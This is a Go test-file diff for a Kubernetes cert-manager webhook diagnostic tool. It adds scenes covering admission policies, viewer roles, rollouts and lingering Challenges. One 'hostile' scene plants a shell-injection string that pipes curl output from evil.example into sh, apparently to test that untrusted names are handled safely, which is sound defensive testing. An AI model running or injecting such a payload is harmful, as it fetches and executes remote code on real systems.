@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/pem"
 	"errors"
+	"fmt"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -55,6 +56,83 @@ func scenes() map[string]func(*testing.T, *scene) (*Diagnosis, error) {
 		"ready": func(t *testing.T, s *scene) (*Diagnosis, error) {
 			s.ready(t)
 			return s.doctor(t).Certificate(t.Context(), "shop", "www")
+		},
+		"hostile": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			const evil = "$(curl${IFS}evil.example|sh)"
+			find[*cmapi.Issuer](t, s, "le").Spec.ACME.Solvers[0].DNS01.Webhook.GroupName = "acme." + evil
+			s.issuance(t, refusal("alidns", "acme."+evil))
+			other := find[*acmev1.Challenge](t, s, "www-1-1-1").DeepCopy()
+			other.Name, other.UID, other.Spec.DNSName = "www-1-1-2", "www-1-1-2", evil
+			other.Status.Reason = "the Secret " + evil + "/" + evil + " does not exist"
+			seen := other.DeepCopy()
+			seen.Name, seen.UID, seen.Status.Reason = "www-1-1-3", "www-1-1-3", "Could not find the SOA record in the DNS tree for the domain"
+			s.add(other, seen)
+			return s.doctor(t).Certificate(t.Context(), "shop", "www")
+		},
+		"viewer": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			s.looksOnly = true
+			return s.doctor(t).Installation(t.Context())
+		},
+		"viewer-admission-off": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			s.looksOnly = true
+			d := find[*appsv1.Deployment](t, s, "certyun-admission")
+			d.Spec.Replicas, d.Status = new(int32(0)), appsv1.DeploymentStatus{}
+			return s.doctor(t).Installation(t.Context())
+		},
+		"viewer-of-namespace": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			s.looksOnly, s.only = true, "certyun"
+			return s.doctor(t).Installation(t.Context())
+		},
+		"viewer-certificate": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			s.looksOnly = true
+			s.ready(t)
+			find[*cmapi.Certificate](t, s, "www").Spec.IssuerRef = cmmeta.IssuerReference{Kind: "ClusterIssuer", Name: "ali", Group: "cert-manager.io"}
+			return s.doctor(t).Certificate(t.Context(), "shop", "www")
+		},
+		"rollout": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			find[*appsv1.Deployment](t, s, "certyun-solver").Status = appsv1.DeploymentStatus{Replicas: 3, UpdatedReplicas: 1, ReadyReplicas: 2}
+			s.waitingPod("solver", corev1.ContainerStateWaiting{Reason: "ImagePullBackOff", Message: `Back-off pulling image "registry.example/certyun:0.2.0"`})
+			return s.doctor(t).Installation(t.Context())
+		},
+		"authority": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			remove[*corev1.Secret](s, "certyun-admission-ca")
+			find[*appsv1.Deployment](t, s, "certyun-admission").Status.ReadyReplicas = 1
+			s.waitingPod("admission", corev1.ContainerStateWaiting{}).Status.ContainerStatuses[0].State = corev1.ContainerState{}
+			return s.doctor(t).Installation(t.Context())
+		},
+		"policy": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			find[*corev1.ConfigMap](t, s, "certyun-admission-policy").Data["policy.yaml"] += "rules: {no-such-rule: deny}\ncrossResource: never\n"
+			return s.doctor(t).Installation(t.Context())
+		},
+		"lingering": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			s.deleted(t, refusal("alidns", testGroup))
+			return s.doctor(t).Installation(t.Context())
+		},
+		"terminating": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			s.deleted(t, "error trying to reach service: dial tcp 10.96.0.103:8443: connect: connection refused")
+			remove[*cmapi.Certificate](s, "www")
+			namespace := find[*corev1.Namespace](t, s, "shop")
+			namespace.DeletionTimestamp, namespace.Finalizers = new(metav1.NewTime(noon.Add(-time.Hour))), []string{"kubernetes"}
+			return s.doctor(t).Certificate(t.Context(), "shop", "www")
+		},
+		"editors": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			s.certManagerIs(t, "v1.19.5")
+			return s.doctor(t).Installation(t.Context())
+		},
+		"unserved": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			for _, name := range []string{"a", "b", "c"} {
+				issuer := testIssuer("shop", name, `{}`)
+				issuer.Spec.ACME.Solvers[0].DNS01.Webhook.GroupName = "acme.two.internal"
+				s.add(issuer)
+			}
+			return s.doctor(t).Installation(t.Context())
+		},
+		"uninstalled": func(t *testing.T, s *scene) (*Diagnosis, error) {
+			remove[*apiregistrationv1.APIService](s, "v1alpha1."+testGroup)
+			for _, name := range []string{"a", "b"} {
+				s.add(testIssuer("mail", name, `{}`))
+			}
+			return s.doctor(t).Installation(t.Context())
 		},
 		"issuer": func(t *testing.T, s *scene) (*Diagnosis, error) {
 			s.options.Provider, s.zones = true, zonesOf{zones: []string{"example.com"}}
@@ -302,9 +380,105 @@ func TestInstallation(t *testing.T) {
 			remove[*apiregistrationv1.APIService](s, "v1alpha1."+testGroup)
 		}, []string{"apiservice-missing"}, nil},
 		"a Challenge cannot be cleaned up": {func(t *testing.T, s *scene) {
-			challenge := s.issuance(t, "Error cleaning up challenge: something new")
-			challenge.DeletionTimestamp, challenge.Finalizers = new(metav1.NewTime(noon.Add(-time.Hour))), []string{"acme.cert-manager.io/finalizer"}
+			s.deleted(t, "Error cleaning up challenge: something new")
 		}, []string{"challenge-lingers"}, nil},
+		"no Pod of the admission server starts without its authority": {func(t *testing.T, s *scene) {
+			remove[*corev1.Secret](s, "certyun-admission-ca")
+			find[*appsv1.Deployment](t, s, "certyun-admission").Status.ReadyReplicas = 0
+		}, []string{"admission-authority-missing"}, nil},
+		"the authority is gone while all Pods have it in their memory": {func(_ *testing.T, s *scene) {
+			remove[*corev1.Secret](s, "certyun-admission-ca")
+		}, nil, []string{"admission-authority-missing"}},
+		"the admission server is scaled to nothing, and its authority is gone as well": {func(t *testing.T, s *scene) {
+			remove[*corev1.Secret](s, "certyun-admission-ca")
+			d := find[*appsv1.Deployment](t, s, "certyun-admission")
+			d.Spec.Replicas, d.Status = new(int32(0)), appsv1.DeploymentStatus{}
+		}, []string{"admission-not-asked"}, []string{"admission-authority-missing"}},
+		"the policy names a rule that there is not": {func(t *testing.T, s *scene) {
+			find[*corev1.ConfigMap](t, s, "certyun-admission-policy").Data["policy.yaml"] += "rules: {no-such-rule: deny}\n"
+		}, []string{"policy-unusable"}, nil},
+		"the policy is under another key": {func(t *testing.T, s *scene) {
+			policy := find[*corev1.ConfigMap](t, s, "certyun-admission-policy")
+			policy.Data = map[string]string{"other.yaml": policy.Data["policy.yaml"]}
+		}, []string{"policy-unusable"}, nil},
+		"the policy is under another key, which the volume names": {func(t *testing.T, s *scene) {
+			policy := find[*corev1.ConfigMap](t, s, "certyun-admission-policy")
+			policy.Data = map[string]string{"other.yaml": policy.Data["policy.yaml"]}
+			find[*appsv1.Deployment](t, s, "certyun-admission").Spec.Template.Spec.Volumes[0].ConfigMap.Items = []corev1.KeyToPath{{Key: "other.yaml", Path: "policy.yaml"}}
+		}, nil, nil},
+		"the policy is not there": {func(_ *testing.T, s *scene) {
+			remove[*corev1.ConfigMap](s, "certyun-admission-policy")
+		}, []string{"policy-unusable"}, nil},
+		"the policy is in a file of its own": {func(t *testing.T, s *scene) {
+			d := find[*appsv1.Deployment](t, s, "certyun-admission")
+			d.Spec.Template.Spec.Containers[0].VolumeMounts[0] = corev1.VolumeMount{Name: "policy", MountPath: "/etc/certyun/policy/policy.yaml", SubPath: "policy.yaml"}
+			find[*corev1.ConfigMap](t, s, "certyun-admission-policy").Data["policy.yaml"] += "noSkip: []\n"
+		}, []string{"policy-unusable"}, nil},
+		"there is no policy": {func(t *testing.T, s *scene) {
+			d := find[*appsv1.Deployment](t, s, "certyun-admission")
+			d.Spec.Template.Spec.Containers[0].Args, d.Spec.Template.Spec.Volumes = nil, nil
+		}, nil, nil},
+		"a new Pod is of this moment": {func(t *testing.T, s *scene) {
+			find[*appsv1.Deployment](t, s, "certyun-solver").Status = appsv1.DeploymentStatus{Replicas: 3, UpdatedReplicas: 1, ReadyReplicas: 2}
+			s.waitingPod("solver", corev1.ContainerStateWaiting{Reason: "ErrImagePull"}).CreationTimestamp = metav1.NewTime(noon.Add(-time.Second))
+		}, nil, nil},
+		"a Pod that is not ready is about to go": {func(t *testing.T, s *scene) {
+			find[*appsv1.Deployment](t, s, "certyun-solver").Status.Replicas = 3
+			pod := s.waitingPod("solver", corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"})
+			pod.DeletionTimestamp, pod.Finalizers = new(metav1.NewTime(noon)), []string{"a/b"}
+		}, nil, nil},
+		"one of two Pods has no node": {func(t *testing.T, s *scene) {
+			find[*appsv1.Deployment](t, s, "certyun-admission").Status.ReadyReplicas = 1
+			s.waitingPod("admission", corev1.ContainerStateWaiting{}).Status = corev1.PodStatus{Conditions: []corev1.PodCondition{{
+				Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Message: "0/1 nodes are available",
+			}}}
+		}, nil, []string{"pods-not-ready"}},
+		"cert-manager's rollout does not go on, and nobody may see Pods": {func(t *testing.T, s *scene) {
+			s.forbidden = []string{"pods"}
+			find[*appsv1.Deployment](t, s, "cert-manager-controller").Status = appsv1.DeploymentStatus{
+				Replicas: 2, UpdatedReplicas: 1, ReadyReplicas: 1,
+				Conditions: []appsv1.DeploymentCondition{{Type: appsv1.DeploymentProgressing, Status: corev1.ConditionFalse, Message: `ReplicaSet "x" has timed out progressing.`}},
+			}
+		}, nil, []string{"pods-not-ready"}},
+		"a user with the role view, and the solver has no Pod": {func(t *testing.T, s *scene) {
+			s.looksOnly = true
+			find[*appsv1.Deployment](t, s, "certyun-solver").Status.ReadyReplicas = 0
+		}, []string{"solver-not-running"}, nil},
+		"a user with the role view, and no Service leads to the admission server": {func(_ *testing.T, s *scene) {
+			s.looksOnly = true
+			remove[*corev1.Service](s, "certyun-admission")
+		}, []string{"admission-not-asked"}, nil},
+		"a user with the role view, and the Service of the solver leads nowhere": {func(t *testing.T, s *scene) {
+			s.looksOnly = true
+			find[*discoveryv1.EndpointSlice](t, s, "certyun-solver").Endpoints = nil
+		}, []string{"solver-not-running"}, nil},
+		"a user with the role view, and the policy has a mistake": {func(t *testing.T, s *scene) {
+			s.looksOnly = true
+			find[*corev1.ConfigMap](t, s, "certyun-admission-policy").Data["policy.yaml"] = "rules: []"
+		}, []string{"policy-unusable"}, nil},
+		"cert-manager lets editors create Challenges": {func(t *testing.T, s *scene) {
+			s.certManagerIs(t, "v1.20.2")
+		}, nil, []string{"editors-create-challenges"}},
+		"cert-manager lets editors create Challenges, and a policy does not": {func(t *testing.T, s *scene) {
+			s.certManagerIs(t, "v1.20.2")
+			s.challengePolicy(admissionregistrationv1.Deny)
+		}, nil, nil},
+		"cert-manager lets editors create Challenges, and a policy only warns": {func(t *testing.T, s *scene) {
+			s.certManagerIs(t, "v1.20.2")
+			s.challengePolicy(admissionregistrationv1.Warn)
+		}, nil, []string{"editors-create-challenges"}},
+		"cert-manager lets editors create Challenges, and the user may see no policy": {func(t *testing.T, s *scene) {
+			s.certManagerIs(t, "v1.18.0")
+			s.challengePolicy(admissionregistrationv1.Deny)
+			s.forbidden = []string{"validatingadmissionpolicies"}
+		}, nil, []string{"editors-create-challenges"}},
+		"the webhook's CA bundle cannot be filled in without the authority": {func(t *testing.T, s *scene) {
+			remove[*corev1.Secret](s, "certyun-admission-ca")
+			find[*admissionregistrationv1.ValidatingWebhookConfiguration](t, s, "certyun.certyun-admission").Webhooks[0].ClientConfig.CABundle = nil
+		}, []string{"admission-not-asked"}, []string{"admission-authority-missing"}},
+		"a Challenge was deleted a minute ago": {func(t *testing.T, s *scene) {
+			s.deleted(t, "the server is currently unable to handle the request (post alidns.acme.certyun.internal)").DeletionTimestamp.Time = noon.Add(-time.Minute)
+		}, nil, nil},
 		"there is no admission server": {func(_ *testing.T, s *scene) {
 			remove[*admissionregistrationv1.ValidatingWebhookConfiguration](s, "certyun.certyun-admission")
 		}, nil, nil},
@@ -583,5 +757,29 @@ func TestVisible(t *testing.T) {
 		if commandOrName := strings.Contains(line, "Next:") || strings.Contains(line, "More:") || strings.Contains(line, "(DNS-01 for"); len([]rune(line)) > width+1 && !commandOrName {
 			t.Errorf("a line of %d characters: %s", len([]rune(line)), line)
 		}
+	}
+}
+
+// TestManyIssuers names all that show the same, up to a bound.
+func TestManyIssuers(t *testing.T) {
+	t.Parallel()
+	s := healthy(t)
+	for i := range maxListed + 5 {
+		issuer := testIssuer("shop", fmt.Sprintf("i%02d", i), `{}`)
+		issuer.Spec.ACME.Solvers[0].DNS01.Webhook.GroupName = "acme.two.internal"
+		s.add(issuer)
+	}
+	found, err := s.doctor(t).Installation(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := ids(found.Causes); !slices.Equal(got, []string{"group-not-served"}) {
+		t.Fatalf("causes %v", got)
+	}
+	if n := len(found.Causes[0].Objects); n != maxListed {
+		t.Errorf("%d objects, want %d", n, maxListed)
+	}
+	if names := found.Causes[0].names(); !strings.Contains(names, "Issuer shop/i19 and 5 more") {
+		t.Errorf("names: %s", names)
 	}
 }
